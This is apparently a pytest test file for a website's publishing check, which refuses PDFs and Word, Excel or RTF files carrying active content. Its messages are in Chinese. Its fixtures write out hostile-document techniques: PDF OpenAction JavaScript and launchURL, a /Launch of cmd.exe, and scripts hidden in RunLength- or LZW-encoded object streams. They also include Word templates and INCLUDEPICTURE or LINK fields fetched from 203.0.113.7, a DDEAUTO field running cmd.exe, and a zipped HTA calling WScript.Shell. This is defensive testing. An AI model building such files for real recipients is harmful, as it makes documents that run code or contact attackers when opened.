"""Documents in docs/ are published byte for byte, and the site's Content-Security-Policy does not
reach a PDF viewer or Word: a PDF that runs JavaScript when opened, a .docx whose attached template
Word fetches from an outside address, an Office file with macros passed check and build
(content/activecontent.py, told by clusters._pages to both)."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest
from tests.conftest import build_root
from tests.test_docs_pages import check_out, refused, site_tree  # noqa: F401

PDF_FIX = "PDF 请去掉密码保护后用“打印为 PDF”重新生成，或另存为 PDF/A（不含脚本和附件）"
OFFICE_FIX = "Office 文件请在 Word、Excel 或 WPS 里另存为 .docx、.xlsx 或 .pptx（不带宏的格式），并删去宏、控件和外部模板或链接"
LEAD = "下载的人打开它时可能运行代码或访问外部网址（网站的安全设置管不到 PDF 阅读器和 Office 软件），已拒绝发布。"
ADMIN = "。确实需要发布的，请找网站管理员"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def pdf(*objects: bytes) -> bytes:
    return b"%PDF-1.4\n" + b"\n".join(objects) + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def zipped(members: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx(rels: dict[str, str], **more: bytes) -> bytes:
    """A .docx whose parts' relationships are `rels` (part -> <Relationship .../> elements)."""
    members = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document><w:t>通知</w:t></w:document>", **more}
    for part, elements in rels.items():
        folder, name = part.rsplit("/", 1)
        members[f"{folder}/_rels/{name}.rels"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{elements}</Relationships>')
    return zipped(members)


def relationship(kind: str, target: str) -> str:
    return f'<Relationship Id="rId9" Type="{REL}{kind}" Target="{target}" TargetMode="External"/>'


def object_stream(*objects: bytes) -> bytes:
    """Objects 1, 2, … packed in a FlateDecode object stream (PDF 1.5), as object 5."""
    header, body = b"", b""
    for number, text in enumerate(objects, 1):
        header, body = header + b"%d %d " % (number, len(body)), body + text + b" "
    packed = zlib.compress(header + body)
    return (b"5 0 obj<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n" % (len(objects), len(header), len(packed))
            + packed + b"\nendstream\nendobj")


ON_OPEN = b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1);app.launchURL('https://example.com/x'))>>>>endobj"
TEMPLATE = docx({"word/settings.xml": relationship("attachedTemplate", "http://203.0.113.7/template.dotm")})
PACKED = object_stream(b"<< /Type /Catalog /OpenAction 2 0 R >>", b"<< /S /JavaScript /JS (app.alert(1)) >>")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def ole_with(name: str, at: int = 1024) -> bytes:
    """An old Office file (OLE) whose directory has an entry `name` at `at`."""
    data = bytearray(OLE + b"\0" * 2040)
    entry = name.encode("utf-16-le") + b"\0\0"
    data[at:at + len(entry)] = entry
    data[at + 64], data[at + 66] = len(entry), 2
    return bytes(data)


HOSTILE = {  # file -> what the message says was found, and the fix it gives
    "on-open.pdf": ("JavaScript 脚本", PDF_FIX),
    "object-stream.pdf": ("JavaScript 脚本", PDF_FIX),
    "escaped.pdf": ("JavaScript 脚本", PDF_FIX),
    "launch.pdf": ("启动程序或打开其他文件的动作（/Launch）", PDF_FIX),
    "attached.pdf": ("夹带的附件文件", PDF_FIX),
    "form.pdf": ("把表单提交到网址的动作（/SubmitForm）", PDF_FIX),
    "opens-address.pdf": ("打开文件时自动访问外部网址或文件的动作", PDF_FIX),
    "template.docx": ("打开时从外部地址加载的模板（http://203.0.113.7/template.dotm）", OFFICE_FIX),
    "network-picture.docx": ("打开时从外部地址加载的图片（\\\\203.0.113.7\\s\\a.png）", OFFICE_FIX),
    "frame.docx": ("打开时从外部地址加载的网页框架（https://example.com/f）", OFFICE_FIX),
    "renamed-macros.docx": ("宏（VBA 代码）", OFFICE_FIX),
    "macros.docm": ("启用宏的文件格式 .docm；宏（VBA 代码）", OFFICE_FIX),
    "macros.doc": ("宏（VBA 代码）", OFFICE_FIX),
    "macros.xls": ("宏（VBA 代码）", OFFICE_FIX),
    "in-a-bundle.zip": ("打开时从外部地址加载的模板（http://203.0.113.7/template.dotm）", OFFICE_FIX),
}


def hostile_files() -> dict[str, bytes]:
    return {
        "on-open.pdf": pdf(ON_OPEN),
        "object-stream.pdf": pdf(PACKED),
        "escaped.pdf": pdf(b"1 0 obj<</Type/Catalog/OpenAction<</S/Java#53cript/J#53(app.alert(1))>>>>endobj"),
        "launch.pdf": pdf(b"1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj"),
        "attached.pdf": pdf(b"1 0 obj<</Type/Catalog/Names<</EmbeddedFiles 4 0 R>>>>endobj"),
        "form.pdf": pdf(b"4 0 obj<</Type/Annot/A<</S/SubmitForm/F(https://example.com/)>>>>endobj"),
        "opens-address.pdf": pdf(b"1 0 obj<</Type/Catalog/OpenAction 7 0 R>>endobj", b"7 0 obj<</S/URI/URI(https://example.com/t)>>endobj"),
        "template.docx": TEMPLATE,
        "network-picture.docx": docx({"word/document.xml": relationship("image", "\\\\203.0.113.7\\s\\a.png")}),
        "frame.docx": docx({"word/webSettings.xml": relationship("frame", "https://example.com/f")}),
        "renamed-macros.docx": docx({}, **{"word/vbaProject.bin": OLE}),
        "macros.docm": docx({}, **{"word/vbaProject.bin": OLE}),
        "macros.doc": ole_with("Macros"),
        "macros.xls": ole_with("_VBA_PROJECT_CUR", 1536),
        "in-a-bundle.zip": zipped({"材料/通知.docx": TEMPLATE}),
    }


def clean_files() -> dict[str, bytes]:
    """Documents as Word, WPS and a PDF printer make them: links a reader clicks, a page to open at,
    the local template Word names in many a file; and text that only talks of script."""
    content = zlib.compress(b"BT /F1 12 Tf (/JavaScript /JS) Tj ET")
    return {
        "clean.pdf": pdf(b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>endobj",
                         b"4 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://www.gov.cn/)>>>>endobj",
                         b"6 0 obj<</Filter/FlateDecode/Length %d>>stream\n" % len(content) + content + b"\nendstream\nendobj"),
        "links.docx": docx({"word/document.xml": relationship("hyperlink", "https://www.gov.cn/"),
                            "word/settings.xml": relationship("attachedTemplate", "file:///C:\\Users\\wang\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm")}),
        "plain.doc": OLE + b"\0" * 1000 + "宏（Macros）与 _VBA_PROJECT 的说明".encode("utf-16-le") + b"\0" * 2000,  # text, no directory entry
    }


def _docs_holding(tmp_path, rel: str, data: bytes):
    """A docs/ folder holding the one file `rel`, of `data`."""
    docs = tmp_path / "docs"
    (docs / rel).parent.mkdir(parents=True, exist_ok=True)
    (docs / rel).write_bytes(data)
    return docs


@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_document_with_script_macros_or_outside_addresses_is_refused_at_its_line_1(tmp_path, name):
    from brandsite.content import clusters

    docs = _docs_holding(tmp_path, f"files/{name}", hostile_files()[name])
    what, fix = HOSTILE[name]
    said = [p.tagged() for p in clusters.docs_links(docs, tmp_path)]
    assert said == [f"docs/files/{name}:1: 这个文件里发现了：{what}。{LEAD}{fix}{ADMIN}"], said


@pytest.mark.parametrize("name", list(clean_files()))
def test_ordinary_documents_pass(tmp_path, name):
    from brandsite.content import clusters

    docs = _docs_holding(tmp_path, name, clean_files()[name])
    assert clusters.docs_links(docs, tmp_path) == []


def test_the_reviews_pdf_stops_check_and_build_and_clean_documents_are_published(site_tree, caplog):  # noqa: F811
    """The review's file: docs/files/tong-zhi.pdf opening with app.alert and app.launchURL, linked
    from a page, passed check and build and was published byte for byte."""
    docs = site_tree.root / "docs"
    (docs / "files").mkdir()
    (docs / "notice.md").write_text("# 通知\n\n[下载通知](files/tong-zhi.pdf) [说明](files/links.docx) [扫描件](files/clean.pdf)\n",
                                    encoding="utf-8")
    clean = clean_files()
    for name, data in clean.items():
        (docs / "files" / name).write_bytes(data)
    (docs / "files" / "tong-zhi.pdf").write_bytes(pdf(ON_OPEN))
    refused(site_tree.root, "docs/files/tong-zhi.pdf:1: 这个文件里发现了：JavaScript 脚本。", caplog)
    (docs / "files" / "tong-zhi.pdf").unlink()
    (docs / "notice.md").write_text("# 通知\n\n[说明](files/links.docx) [扫描件](files/clean.pdf)\n", encoding="utf-8")
    out = check_out(site_tree.root)
    assert out.returncode == 0, out.stdout + out.stderr
    site = build_root(site_tree.root)
    assert (site / "files" / "links.docx").read_bytes() == clean["links.docx"]


def test_a_pdf_too_large_to_read_to_its_end_is_a_warning(tmp_path, monkeypatch):
    """Past what one check inflates (filetexts' Budget), a PDF's last streams go unread: the check
    says it could not look for script there, rather than passing it as clean."""
    from brandsite.content import activecontent, clusters, filetexts

    monkeypatch.setattr(filetexts, "_TOTAL_READ", 4 << 20)
    monkeypatch.setattr(activecontent, "_FOUND", {})
    filler = zlib.compress(b"0 0 m " * (1 << 20))  # 6 MB of drawing
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "big.pdf").write_bytes(pdf(b"6 0 obj<</Filter/FlateDecode>>stream\n" + filler + b"\nendstream\nendobj",
                                       PACKED))
    said = [(p.level, p.message) for p in clusters.docs_links(docs, tmp_path)]
    assert [level for level, _ in said] == ["warning"] and "里面有没有脚本、宏或附件没能查完" in said[0][1], said


# The review's second round: a PDF's object stream in a filter the check did not undo, Word's fields,
# an RTF named .doc, a zip of scripts, Excel 4.0 macro sheets and embedded OLE objects.
UNREAD = "检查程序解不开的压缩内容（对象流或数据流用了这里认不得的压缩方式，看不到里面有没有脚本）"
FIELD_FIX = ("Word 文件请按 Alt+F9 显示域代码，删去 DDE 域和从外部网址取内容的 INCLUDEPICTURE、INCLUDETEXT、LINK 域"
             "（图片请直接插入文件里），再保存")
EMBEDDED_FIX = "嵌入的对象请删去（要给人看的内容，改成图片或单独的文件）"
RENAMED_FIX = "改过扩展名的文件，Word 和 WPS 会按它实际的格式打开，这里检查不了：请用 Word 或 WPS 打开它，另存为 .docx、.xlsx 或 .pptx"
ZIP_FIX = "压缩包里请只放文档、图片和音视频，删去程序、脚本、网页和快捷方式后重新压缩"
EMBEDDED = "嵌入的 OLE 对象（可以夹带程序，双击就运行）"
JS_OBJECT = b"<< /S /JavaScript /JS (app.alert('pwned');) >>"


def run_length(data: bytes) -> bytes:
    """RunLengthDecode's bytes for `data`: runs of four, so no name in it is whole."""
    return b"".join(bytes([len(data[i:i + 4]) - 1]) + data[i:i + 4] for i in range(0, len(data), 4)) + b"\x80"


def lzw(data: bytes) -> bytes:
    """LZWDecode's bytes for `data`: each byte a 9-bit code, the table cleared before it grows a bit."""
    codes = [256]
    for at, byte in enumerate(data):
        codes += [byte] if at % 200 or not at else [256, byte]
    value = 0
    for code in [*codes, 257]:
        value = value << 9 | code
    width = 9 * (len(codes) + 1)
    return (value << (-width % 8)).to_bytes((width + 7) // 8, "big")


def packed_pdf(encoded: bytes, dictionary: bytes) -> bytes:
    """The review's PDF: a catalog opening object 4, a script, packed in object stream 5 (its
    dictionary's `dictionary`, its bytes `encoded` from "4 0 <<…>>"), with an xref stream."""
    return (b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n"
            b"5 0 obj<</Type/ObjStm/N 1/First 4" + dictionary + b"/Length %d>>stream\n" % len(encoded) + encoded
            + b"\nendstream\nendobj\n6 0 obj<</Type/XRef/Size 7/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>"
            b"/Length 10>>stream\n" + zlib.compress(b"\x02\x00\x00\x00\x00") + b"\nendstream\nendobj\nstartxref\n0\n%%EOF\n")


OBJECTS = b"4 0 " + JS_OBJECT


def word(*parts: str, part: str = "word/document.xml") -> bytes:
    """A .docx whose `part` holds `parts` in a body."""
    body = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
    return docx({}, **{part: body + "".join(parts) + "</w:p></w:body></w:document>"})


def run(kind: str = "", instruction: str = "") -> str:
    """A run: a field's begin, separate or end, or a piece of its instruction."""
    if kind:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
    return f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'


RTF = (b'{\\rtf1\\ansi{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105}}'
       b'{\\field{\\*\\fldinst {\\rtlch INCLUDEPICTURE "http://203.0.113.7/x.png" \\\\* MERGEFORMAT}}{\\fldrslt }}}')
DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'

MORE_HOSTILE = {  # file -> (its bytes, the message's list of what was found, its fixes)
    "runlength.pdf": (packed_pdf(run_length(OBJECTS), b"/Filter/RunLengthDecode"), "JavaScript 脚本", PDF_FIX),
    "lzw.pdf": (packed_pdf(lzw(OBJECTS), b"/Filter/LZWDecode"), "JavaScript 脚本", PDF_FIX),
    "hex-then-runlength.pdf": (packed_pdf(run_length(OBJECTS).hex().encode() + b">", b"/Filter[/AHx/RL]"), "JavaScript 脚本", PDF_FIX),
    "unfiltered-object-stream.pdf": (packed_pdf(OBJECTS, b""), "JavaScript 脚本", PDF_FIX),
    "picture-object-stream.pdf": (packed_pdf(run_length(OBJECTS), b"/Filter/DCTDecode"), UNREAD, PDF_FIX),
    "unknown-filter.pdf": (packed_pdf(run_length(OBJECTS), b"/Filter/RunLengthDecode/Filter/Crypt"), UNREAD, PDF_FIX),
    "predictor.pdf": (packed_pdf(zlib.compress(b"".join(b"\0%c" % c for c in OBJECTS)), b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 1>>"),
                      UNREAD, PDF_FIX),
    "early-change.pdf": (packed_pdf(lzw(OBJECTS), b"/Filter/LZW/DecodeParms<</EarlyChange 0>>"), f"JavaScript 脚本；{UNREAD}", PDF_FIX),
    "hidden-dictionary.pdf": (packed_pdf(run_length(OBJECTS), b"/Filter/RunLengthDecode/Pad(" + b"x" * 1100 + b")"), UNREAD, PDF_FIX),
    "xref-unread.pdf": (packed_pdf(b"4 0 <<>>", b"").replace(b"/Filter/FlateDecode/Decode", b"/Filter/JBIG2Decode/Decode"), UNREAD, PDF_FIX),
    "dde.docx": (word(run("begin"), run(instruction=" DDE"), run(instruction=DDE[3:]), run("end")),
                 '运行命令的 DDE 域（DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"）', FIELD_FIX),
    "dde-simple.docx": (word('<w:fldSimple w:instr="dde Excel &quot;C:\\\\a.xls&quot;"><w:r><w:t>1</w:t></w:r></w:fldSimple>'),
                        '运行命令的 DDE 域（dde Excel "C:\\\\a.xls"）', FIELD_FIX),
    "picture-in-header.docx": (word("<w:fldSimple w:instr=' INCLUDEPICTURE  \"http://203.0.113.7/p.png\" \\d '/>", part="word/header1.xml"),
                               "打开时从外部地址取内容的 INCLUDEPICTURE 域（http://203.0.113.7/p.png）", FIELD_FIX),
    "text-in-footnote.docx": (word(run("begin"), run(instruction='INCLUDETEXT "\\\\\\\\203.0.113.7\\\\s\\\\'),
                                   run(instruction='a.docx" '), run("separate"), run("end"), part="word/footnotes.xml"),
                              "打开时从外部地址取内容的 INCLUDETEXT 域（\\\\203.0.113.7\\s\\a.docx）", FIELD_FIX),
    "nested.docx": (word(run("begin"), run(instruction="IF 1 = 1 "), run("begin"), run(instruction='LINK Excel.Sheet.12 "file://203.0.113.7/b.xlsx" ""'),
                         run("separate"), run("end"), run("separate"), run("end")),
                    "打开时从外部地址取内容的 LINK 域（file://203.0.113.7/b.xlsx）", FIELD_FIX),
    "rtf.doc": (RTF, "扩展名是 .doc，实际是 RTF 文档；RTF 文档里嵌入或链接的对象（\\objautlink）；RTF 文档里嵌入或链接的对象（\\object）；"
                     "RTF 文档里嵌入或链接的对象（\\objupdate）；打开时从外部地址取内容的 INCLUDEPICTURE 域（http://203.0.113.7/x.png）",
                f"{RENAMED_FIX}；{EMBEDDED_FIX}；{FIELD_FIX}"),
    "web.xls": (b"\xef\xbb\xbf<html><body><table><tr><td>1</td></tr></table></body></html>", "扩展名是 .xls，实际是网页或 XML 文件", RENAMED_FIX),
    "text.docx": ("通知".encode(), "扩展名是 .docx，实际是别的格式", RENAMED_FIX),
    "scripts.zip": (zipped({"readme.hta": "<script>new ActiveXObject('WScript.Shell').Run('calc')</script>", "说明.rtf": RTF,
                            "工具/run.BAT ": "calc", "通知.docx": word()}),
                    "RTF 文档里嵌入或链接的对象（\\objautlink）；RTF 文档里嵌入或链接的对象（\\object）；RTF 文档里嵌入或链接的对象（\\objupdate）；"
                    "打开时从外部地址取内容的 INCLUDEPICTURE 域（http://203.0.113.7/x.png）；"
                    "压缩包里解压后双击就会运行或用浏览器打开的文件（readme.hta、工具/run.BAT ）", f"{EMBEDDED_FIX}；{FIELD_FIX}；{ZIP_FIX}"),
    "macrosheet.xlsx": (zipped({"[Content_Types].xml": "<Types/>", "xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"}), "Excel 4.0 宏表", OFFICE_FIX),
    "macrosheet-by-type.xlsx": (docx({"xl/workbook.xml": '<Relationship Id="rId3" Target="worksheets/sheet2.xml" '
                                      'Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"/>'}), "Excel 4.0 宏表", OFFICE_FIX),
    "package.docx": (docx({"word/document.xml": f'<Relationship Id="rId5" Type="{REL}oleObject" Target="embeddings/oleObject1.bin"/>'},
                          **{"word/embeddings/oleObject1.bin": OLE + b"\0" * 504}), EMBEDDED, EMBEDDED_FIX),
}


@pytest.mark.parametrize("name", list(MORE_HOSTILE))
def test_object_streams_in_other_filters_fields_renamed_files_and_scripts_in_zips_are_refused(tmp_path, name):
    from brandsite.content import clusters

    data, what, fix = MORE_HOSTILE[name]
    docs = _docs_holding(tmp_path, name, data)
    said = [p.tagged() for p in clusters.docs_links(docs, tmp_path)]
    assert said == [f"docs/{name}:1: 这个文件里发现了：{what}。{LEAD}{fix}{ADMIN}"], said


def more_clean_files() -> dict[str, bytes]:
    """A scan's page (a JPEG picture), packed dictionaries and an xref stream as Acrobat writes
    them; Word's ordinary fields (a page number, a link a reader clicks, a local picture)."""
    jpeg = b"\xff\xd8\xff\xe0 /JavaScript \xff\xd9"
    scan = (b"%PDF-1.5\n7 0 obj<</Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray"
            + b"/Filter/DCTDecode/Length %d>>stream\n" % len(jpeg) + jpeg + b"\nendstream\nendobj\n")
    packed = packed_pdf(zlib.compress(b"4 0 << /S /URI /URI (https://www.gov.cn/) >>"), b"/Filter/FlateDecode")
    return {
        "scan.pdf": scan + packed[len(b"%PDF-1.5\n"):].replace(b"/OpenAction 4 0 R", b""),
        "fields.docx": word(run("begin"), run(instruction=" HYPERLINK "), run(instruction='"http://www.gov.cn/" \\o "政府网"'),
                            run("separate"), '<w:r><w:t>网站</w:t></w:r>', run("end"),
                            '<w:fldSimple w:instr=" PAGE   \\* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple>',
                            run("begin"), run(instruction='INCLUDEPICTURE "media/logo.png" \\* MERGEFORMATINET'), run("end"),
                            run("begin"), run(instruction='LINK Excel.Sheet.12 "C:\\\\Users\\\\wang\\\\数据.xlsx" "Sheet1!R1C1"'), run("end")),
        "bundle.zip": zipped({"通知.docx": word(), "照片/1.jpg": jpeg, "说明.txt": "双击 setup.exe 前请阅读"}),
        "empty.doc": b"",
        # a permissions password: its streams are ciphertext, its dictionaries (no object stream) in sight
        "protected.pdf": pdf(b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj", b"6 0 obj<</Filter/FlateDecode/Length 100>>stream\n"
                             + b"\x13\x37" * 50 + b"\nendstream\nendobj", b"9 0 obj<</Filter/Standard/V 2/R 3/P -3904>>endobj")
                             .replace(b"trailer<<", b"trailer<</Encrypt 9 0 R"),
    }


@pytest.mark.parametrize("name", list(more_clean_files()))
def test_pictures_xref_streams_and_ordinary_fields_pass(tmp_path, name):
    from brandsite.content import clusters

    docs = _docs_holding(tmp_path, name, more_clean_files()[name])
    assert clusters.docs_links(docs, tmp_path) == []


def test_lzw_and_run_length_are_undone_as_pdf_writes_them():
    """The PDF Reference's own example (EarlyChange 1), and a run of copies."""
    from brandsite.content import pdffilters

    assert pdffilters.lzw(bytes.fromhex("800B6050220C0C8501"), 100) == b"-----A---B"
    assert pdffilters.lzw(lzw(OBJECTS * 40), 1 << 20) == OBJECTS * 40
    assert pdffilters.run_length(b"\x02abc\xfdx\x80ignored", 100) == b"abcxxxx"
    assert pdffilters.run_length(b"\x81x" * 10, 7) == b"x" * 7
